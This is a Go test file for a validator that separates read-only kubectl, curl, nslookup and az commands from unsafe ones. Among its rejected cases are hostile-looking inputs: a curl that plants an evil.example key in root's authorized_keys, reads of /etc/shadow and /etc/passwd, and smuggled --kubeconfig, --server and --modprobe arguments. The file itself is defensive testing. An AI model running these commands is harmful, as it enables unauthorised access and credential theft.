package cmdline

import (
	"encoding/json"
	"strings"
	"testing"
)

// What reads is shown from a bundle; nothing else is, whatever it looks like.
func TestReads(t *testing.T) {
	for text, want := range map[string]bool{
		"kubectl get pods -n shop -l app=web -o wide":                          true,
		"kubectl get endpointslices -n shop -o yaml":                           true,
		"kubectl logs -n kube-system web -c app --previous --tail=20":          true,
		"kubectl logs -n kube-system -l k8s-app=traefik --since=1m --tail=-1":  true,
		"kubectl get events -n shop --field-selector involvedObject.name=web":  true,
		"kubectl describe node aks-1":                                          true,
		"kubectl auth can-i get pods":                                          true,
		"kubectl version":                                                      true,
		"nslookup shop.example.com":                                            true,
		"curl -v --max-time 5 telnet://10.0.0.1:80":                            true,
		"curl -ksS -o /dev/null -D - --resolve a.b:443:10.0.0.1 https://a.b/x": true,
		"":                                     false,
		"kubectl":                              false,
		"kubectl delete namespace prod":        false,
		"kubectl auth reconcile":               false,
		"kubectl get pods --kubeconfig=/tmp/x": false,
		"kubectl get pods --kubeconfig /tmp/x": false,
		"kubectl --server=https://evil.example get pods":                 false,
		"kubectl get --raw /api":                                         false,
		"kubectl get pods -f https://evil.example/x":                     false,
		"kubectl get pods -o go-template-file=/etc/x":                    false,
		"kubectl get pods -n":                                            false,
		"kubectl get pods -n --kubeconfig=/tmp/x":                        false,
		"kubectl get pods -A=--x":                                        false,
		"kubectl exec web -- sh":                                         false,
		"curl -ksS -o /root/.ssh/authorized_keys https://evil.example/k": false,
		"curl -K /tmp/x https://a.b/":                                    false,
		"curl -ksS http://u:p@jenkins/job/x/build":                       false,
		"curl -v file:///etc/shadow":                                     false,
		"curl -v https://a.b/ https://c.d/":                              false,
		"curl -v":                                                        false,
		"nslookup -type=a shop":                                          false,
		"sh -c kubectl":                                                  false,
		"az vm list":                                                     false,
		"az aks show --subscription 0 -g lab -n lab":                     true,
		"az network nsg show --ids /subscriptions/0/x":                   true,
		"az network nsg rule show --ids @/etc/shadow":                    false,
		"az network nsg rule show --ids=@/etc/shadow":                    false,
		"az aks --subscription 0 show":                                   false,
		"az aks delete -g lab -n lab":                                    false,
		"az role definition list -n 0 --scope /subscriptions/0":          true,
		"az role definition delete -n 0":                                 false,
		"az aks show --debug":                                            false,
		"kubectl-aksnode get":                                            false,
		"kubectl aksnode run n -- true":                                  false,
	} {
		var c Command
		argv, _ := json.Marshal(strings.Fields(text))
		if err := json.Unmarshal(argv, &c); err != nil {
			t.Fatal(err)
		}
		if c.Reads() != want {
			t.Errorf("%s: %v, want %v", text, c.Reads(), want)
		}
	}
}

func TestJSON(t *testing.T) {
	c := Kubectl("get", "pods")
	text, err := json.Marshal(c)
	if err != nil || string(text) != `["kubectl","get","pods"]` {
		t.Errorf("%s %v", text, err)
	}
	var read Command
	if err := json.Unmarshal(text, &read); err != nil || !read.Equal(c) {
		t.Errorf("%v %v", read, err)
	}
	var zero Command
	if text, err := json.Marshal(zero); err != nil || string(text) != "[]" {
		t.Errorf("%s %v", text, err)
	}
}

func TestKnown(t *testing.T) {
	for _, c := range []struct {
		command Command
		want    bool
	}{
		{Kubectl("get", "pods", "-n", "shop", "-o", "yaml", "--tail=5"), true},
		{Kubectl("aksnode", "run", "n", "--no-tunnel", "--").Running(Program("curl", "-D", "-", "-sS")), true},
		{Kubectl("aksnode", "run", "--kubeconfig=/tmp/x", "--no-tunnel"), false},
		{Kubectl("get", "pods", "--kubeconfig", "/tmp/x"), false},
		{Az("vm", "restart", "-n", "--debug"), false},
		{Az("provider", "register", "-n", "Microsoft.ServiceLinker", "--subscription", "@/etc/passwd"), false},
		{Az("provider", "register", "--subscription=@/etc/passwd"), false},
		{Program("iptables", "-D", "INPUT", "--modprobe=/tmp/x"), false},
		{Program("curl", "-K/tmp/x"), false},
	} {
		if c.command.Known() != c.want {
			t.Errorf("%s: %v, want %v", c.command, c.command.Known(), c.want)
		}
	}
}
